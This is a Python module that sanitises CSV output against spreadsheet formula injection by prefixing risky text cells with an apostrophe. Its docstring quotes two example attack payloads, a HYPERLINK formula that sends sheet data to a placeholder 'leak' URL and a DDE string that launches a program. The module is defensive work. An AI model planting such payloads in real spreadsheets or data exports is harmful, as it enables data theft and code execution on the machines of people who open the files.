"""Every CSV pakmap writes (joined tables, join reports, the demo's table) goes through here.

Officers open these files in Excel, which runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula: a district key ``=HYPERLINK("http://…/leak?"&A1,"Click")`` sent by a partner would
send the sheet's data away, ``+cmd|' /C calc'!A0`` would start a program. As OWASP recommends, such
text cells (and those starting with a tab or carriage return) are written with a leading ``'``, which
spreadsheets show as text. Numbers are numbers, not formulas, and stay as they are — ``-12.5`` as a
number or as the text of a number — and so does every other cell.
"""

from __future__ import annotations

import csv
import io
import os
import re
from typing import Any, Iterable, Sequence

import pandas as pd

from .atomic import write_text_atomic

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number written as text, as a spreadsheet reads it: "-12.5", "+3", "-1,234", "1e-5".
_NUMBER = re.compile(r"[+-]?((\d{1,3}(,\d{3})+|\d+)(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet reads it as data: text that would start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with its text cells and column names made safe (numbers untouched)."""
    out = frame.copy()
    for column in out.columns:
        if not (
            pd.api.types.is_numeric_dtype(out[column])
            or pd.api.types.is_bool_dtype(out[column])
            or pd.api.types.is_datetime64_any_dtype(out[column])
        ):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike) -> None:
    """``frame`` (without its index) as CSV at ``path``, written as it is: no atomic rename, so the
    caller may pass the temporary path of its own ``atomic_path``."""
    safe_frame(frame).to_csv(path, index=False)


def write_rows_csv(path: str | os.PathLike, rows: Iterable[Sequence[Any]]) -> None:
    """Rows (the first: the header) as CSV at ``path``, every cell made safe; written atomically."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    write_text_atomic(path, buffer.getvalue())
